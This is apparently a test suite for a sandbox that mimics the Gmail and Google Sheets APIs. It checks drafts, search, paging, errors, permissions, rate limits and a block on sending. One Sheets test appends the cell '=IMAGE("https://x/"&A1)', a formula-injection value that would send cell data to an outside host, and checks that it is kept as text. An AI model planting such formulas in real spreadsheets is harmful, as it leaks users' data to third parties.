import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { spreadsheetIdOf } from './seed.ts';
import {
	accounts,
	clients,
	compose,
	connected,
	dana,
	draftOf,
	newSandbox,
	rawMail,
	rowOf
} from '../testing.ts';

const leads = spreadsheetIdOf(dana, 'Leads');
const me = { userId: 'me' };

function refusal(code: number, message: string | RegExp) {
	const text = typeof message === 'string' ? message : (expect.stringMatching(message) as string);
	return { status: code, response: { data: { error: { code, message: text } } } };
}

describe('Gmail', () => {
	it('keeps a draft and shows it in every format', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		const { data: made } = await mail.users.drafts.create(draftOf('Grüße'));
		expect(made.id).toMatch(/^r-?\d+$/);
		expect(made.message).toMatchObject({ labelIds: ['DRAFT'], threadId: made.message?.id });
		const id = made.id ?? '';
		const full = await mail.users.drafts.get({ ...me, id });
		const { data = '' } = full.data.message?.payload?.body ?? {};
		expect(Buffer.from(data ?? '', 'base64url').toString()).toContain('Hello Priya');
		expect(full.data.message?.payload?.headers).toContainEqual({ name: 'Subject', value: 'Grüße' });
		const raw = await mail.users.drafts.get({ ...me, id, format: 'raw' });
		expect(raw.data.message?.raw).toBe(rawMail('Grüße'));
		const minimal = await mail.users.drafts.get({ ...me, id, format: 'minimal' });
		expect(Object.keys(minimal.data.message ?? {})).not.toContain('payload');
	});

	it('finds a draft by its Message-ID once the search has caught up', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		sandbox.set({ email: dana, searchLagSeconds: 30 });
		const { data: made } = await mail.users.drafts.create(draftOf('Hello', 'late@agentforce.example'));
		const search = async (q: string) => (await mail.users.drafts.list({ ...me, q })).data;
		expect(await search('rfc822msgid:<late@agentforce.example>')).toEqual({ resultSizeEstimate: 0 });
		expect((await mail.users.drafts.list(me)).data.drafts).toHaveLength(1);
		await expect
			.poll(() => search('rfc822msgid:late@agentforce.example'))
			.toMatchObject({ drafts: [{ id: made.id, message: made.message && { id: made.message.id } }] });
		expect(await search('rfc822msgid:other@agentforce.example')).toEqual({ resultSizeEstimate: 0 });
		expect(await search('subject:hello -to:tom')).toMatchObject({ resultSizeEstimate: 1 });
	});

	it('pages through the drafts, newest first, in the fields asked for', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		const ids: string[] = [];
		for (const subject of ['one', 'two', 'three']) {
			ids.unshift((await mail.users.drafts.create(draftOf(subject))).data.id ?? '');
		}
		const fields = 'drafts(id),nextPageToken';
		const { data: first } = await mail.users.drafts.list({ ...me, maxResults: 2, fields });
		const pageToken = first.nextPageToken ?? '';
		const { data: second } = await mail.users.drafts.list({ ...me, maxResults: 2, pageToken, fields });
		expect([...(first.drafts ?? []), ...(second.drafts ?? [])]).toEqual(ids.map((id) => ({ id })));
		expect(second).not.toHaveProperty('nextPageToken');
	});

	it('moves the history on with every change, and with nothing else', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		const history = async () => Number((await mail.users.getProfile(me)).data.historyId);
		const press = async (act: string, id: string) => {
			const body = new URLSearchParams({ subject: 'Änderung', text: 'Other words' });
			await fetch(`${sandbox.url}/mail/${dana}/${id}/${act}`, { method: 'POST', body });
		};
		const seen = [await history()];
		const one = (await mail.users.drafts.create(draftOf('one'))).data;
		seen.push(await history());
		const two = (await mail.users.drafts.create(draftOf('two'))).data;
		await mail.users.drafts.list({ ...me, q: 'one' });
		seen.push(await history());
		await press('edit', one.id ?? '');
		seen.push(await history());
		await press('send', one.id ?? '');
		seen.push(await history());
		await press('delete', two.id ?? '');
		seen.push(await history());
		expect(seen).toEqual([...new Set(seen)].sort((a, b) => a - b));
		expect(await history()).toBe(seen.at(-1));
		const account = sandbox.state().accounts[0];
		expect(account?.drafts).toEqual([]);
		expect(account?.sent).toMatchObject([{ id: one.id, subject: 'Änderung', text: 'Other words' }]);
		expect(account?.sent[0]?.messageId).not.toBe(one.message?.id);
	});

	it('says what is wrong as Google does', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		const create = (message: object, userId = 'me') =>
			mail.users.drafts.create({ userId, requestBody: { message } });
		await expect(create({})).rejects.toMatchObject(refusal(400, /'raw' RFC822 payload/));
		await expect(create({ raw: rawMail('x', 'a@b', 'nobody') })).rejects.toMatchObject(
			refusal(400, 'Invalid To header')
		);
		const elsewhere = create({ raw: rawMail('x'), threadId: '18f' });
		await expect(elsewhere).rejects.toMatchObject(refusal(404, 'Requested entity was not found.'));
		await expect(create({ raw: rawMail('x') }, accounts)).rejects.toMatchObject(refusal(403, /Delegation/));
		await expect(mail.users.drafts.get({ ...me, id: 'r1' })).rejects.toMatchObject(refusal(404, /not found/));
		const dead = clients(sandbox, 'ya29.dead').mail.users.getProfile(me);
		await expect(dead).rejects.toMatchObject(refusal(401, /invalid authentication credentials/));
		expect(sandbox.state().effects).toEqual([]);
	});

	it('never sends', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		const { data } = await mail.users.drafts.create(draftOf('Hello'));
		const sending = mail.users.drafts.send({ ...me, requestBody: { id: data.id ?? '' } });
		await expect(sending).rejects.toMatchObject({ status: 403 });
		expect(sandbox.state().counts['gmail.send']).toBe(1);
		expect(sandbox.state().accounts[0]?.drafts).toHaveLength(1);
	});
});

describe('Sheets', () => {
	it('shows a spreadsheet in the fields asked for', async () => {
		const { sheets } = connected(await newSandbox());
		const fields = 'spreadsheetId,properties/title,sheets(properties(sheetId,title))';
		const { data } = await sheets.spreadsheets.get({ spreadsheetId: leads, fields });
		expect(data).toEqual({
			spreadsheetId: leads,
			properties: { title: 'Leads' },
			sheets: [{ properties: { sheetId: 0, title: 'Leads' } }]
		});
		const withCells = await sheets.spreadsheets.get({
			spreadsheetId: leads,
			ranges: ['Leads!A2:B2'],
			fields: 'sheets.data.rowData.values.formattedValue'
		});
		expect(withCells.data.sheets?.[0]?.data?.[0]?.rowData).toEqual([
			{ values: [{ formattedValue: 'Priya Shah' }, { formattedValue: 'Harbour Hotel' }] }
		]);
	});

	it.each([
		['Leads!1:1', 'Leads!A1:Z1', [['Name', 'Company', 'E-mail', 'Source', 'Next step']]],
		[
			"'leads'!B2:C",
			'Leads!B2:C1000',
			[
				['Harbour Hotel', 'priya@harbour.example'],
				['Studio Adeyemi', 'tom@adeyemi.example']
			]
		],
		['A1', 'Leads!A1', [['Name']]],
		['Leads!900:900', 'Leads!A900:Z900', undefined]
	])('reads the values of %s', async (range, name, values) => {
		const { sheets } = connected(await newSandbox());
		const { data } = await sheets.spreadsheets.values.get({ spreadsheetId: leads, range });
		expect([data.range, data.values]).toEqual([name, values]);
	});

	it('adds a row once for one metadata id, and keeps a formula as text', async () => {
		const sandbox = await newSandbox();
		const { sheets } = connected(sandbox);
		const cells = ['=IMAGE("https://x/"&A1)', '', '007'];
		const { data } = await sheets.spreadsheets.batchUpdate(rowOf(leads, cells, 41));
		expect(data.replies).toMatchObject([
			{ createDeveloperMetadata: { developerMetadata: { metadataId: 41 } } },
			{}
		]);
		const again = sheets.spreadsheets.batchUpdate(rowOf(leads, ['another'], 41));
		await expect(again).rejects.toMatchObject(refusal(400, /\[41\].*already exists/));
		const { data: read } = await sheets.spreadsheets.values.get({ spreadsheetId: leads, range: 'Leads!4:9' });
		expect(read.values).toEqual([cells]);
		const got = await sheets.spreadsheets.developerMetadata.get({ spreadsheetId: leads, metadataId: 41 });
		expect(got.data).toMatchObject({ metadataValue: 'an action', location: { locationType: 'SPREADSHEET' } });
		expect(sandbox.state().effects).toMatchObject([{ kind: 'row', metadataIds: [41], cells }]);
	});

	it('finds metadata by id, and nothing when there is none', async () => {
		const { sheets } = connected(await newSandbox());
		await sheets.spreadsheets.batchUpdate(rowOf(leads, ['a'], 7));
		const search = async (metadataId: number) => {
			const dataFilters = [{ developerMetadataLookup: { metadataId } }];
			return (
				await sheets.spreadsheets.developerMetadata.search({
					spreadsheetId: leads,
					requestBody: { dataFilters }
				})
			).data;
		};
		expect(await search(7)).toMatchObject({
			matchedDeveloperMetadata: [{ developerMetadata: { metadataId: 7 } }]
		});
		expect(await search(8)).toEqual({});
		const missing = sheets.spreadsheets.developerMetadata.get({ spreadsheetId: leads, metadataId: 8 });
		await expect(missing).rejects.toMatchObject({ status: 404 });
	});

	it('does all of a batch or nothing, and says which request was wrong', async () => {
		const sandbox = await newSandbox();
		const { sheets } = connected(sandbox);
		const [metadata, append] = rowOf(leads, ['a'], 9).requestBody?.requests ?? [];
		const batch = (...requests: unknown[]) =>
			sheets.spreadsheets.batchUpdate({
				spreadsheetId: leads,
				requestBody: { requests: requests as object[] }
			});
		const gone = { appendCells: { ...append?.appendCells, sheetId: 77 } };
		await expect(batch(metadata, gone)).rejects.toMatchObject(
			refusal(400, /requests\[1\].*No grid with id: 77/)
		);
		await expect(batch(append, { makeTea: {} })).rejects.toMatchObject(
			refusal(400, /Unknown name "makeTea"/)
		);
		await expect(batch({ addSheet: {} })).rejects.toMatchObject({ status: 501 });
		await expect(batch()).rejects.toMatchObject(refusal(400, /at least one request/));
		await expect(batch({ appendCells: { rows: [] } })).rejects.toMatchObject(refusal(400, /'fields'/));
		expect(sandbox.state().effects).toEqual([]);
		expect(sandbox.state().spreadsheets[1]?.metadata).toEqual([]);
	});

	it('lets nobody into the sheets of another account, and knows no other ids', async () => {
		const sandbox = await newSandbox();
		const { sheets } = connected(sandbox, accounts);
		const get = (spreadsheetId: string) => sheets.spreadsheets.get({ spreadsheetId });
		await expect(get(leads)).rejects.toMatchObject(refusal(403, 'The caller does not have permission'));
		await expect(get('1abc')).rejects.toMatchObject(refusal(404, 'Requested entity was not found.'));
		const { accessToken } = sandbox.connect({ email: dana, scopes: [compose] });
		const narrow = clients(sandbox, accessToken).sheets.spreadsheets.get({ spreadsheetId: leads });
		await expect(narrow).rejects.toMatchObject(refusal(403, /insufficient authentication scopes/));
	});

	it('knows a tab by its id after it was renamed, and no more after it was deleted', async () => {
		const sandbox = await newSandbox();
		const { sheets } = connected(sandbox);
		const press = (path: string, form: Record<string, string> = {}) =>
			fetch(`${sandbox.url}/spreadsheets/d/${leads}/${path}`, {
				method: 'POST',
				body: new URLSearchParams(form)
			});
		await press('add');
		await press('0/rename', { title: "People's list" });
		await press('0/move', { from: '4', to: '0' });
		const old = sheets.spreadsheets.values.get({ spreadsheetId: leads, range: 'Leads!1:1' });
		await expect(old).rejects.toMatchObject(refusal(400, 'Unable to parse range: Leads!1:1'));
		const range = "'People''s list'!1:1";
		const { data } = await sheets.spreadsheets.values.get({ spreadsheetId: leads, range });
		expect(data.values).toEqual([['Next step', 'Name', 'Company', 'E-mail', 'Source']]);
		await sheets.spreadsheets.batchUpdate(rowOf(leads, ['a'], 1));
		await press('0/delete');
		const append = sheets.spreadsheets.batchUpdate(rowOf(leads, ['b'], 2));
		await expect(append).rejects.toMatchObject(refusal(400, /No grid with id: 0/));
	});
});

describe('what is set from outside', () => {
	it('limits an account to its requests a minute', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		const other = connected(sandbox, accounts);
		sandbox.set({ email: dana, requestsPerMinute: 1 });
		await mail.users.getProfile(me);
		await expect(mail.users.getProfile(me)).rejects.toMatchObject({ status: 429 });
		expect((await other.mail.users.getProfile(me)).status).toBe(200);
		sandbox.set({ email: dana, requestsPerMinute: null });
		expect((await mail.users.getProfile(me)).status).toBe(200);
	});

	it('ends access tokens at once, or after the seconds set', async () => {
		const sandbox = await newSandbox();
		const { mail } = connected(sandbox);
		const body = JSON.stringify({ expireAccessTokens: true });
		expect((await fetch(`${sandbox.url}/sandbox/faults`, { method: 'POST', body })).status).toBe(200);
		await expect(mail.users.getProfile(me)).rejects.toMatchObject({ status: 401 });
		sandbox.set({ accessTokenSeconds: 0 });
		const late = connected(sandbox).mail;
		await sleep(5);
		await expect(late.users.getProfile(me)).rejects.toMatchObject({ status: 401 });
	});

	it('refuses what it does not know', async () => {
		const { url } = await newSandbox();
		for (const body of ['{"makeTea":true}', 'not JSON']) {
			expect((await fetch(`${url}/sandbox/faults`, { method: 'POST', body })).status).toBe(400);
		}
	});
});
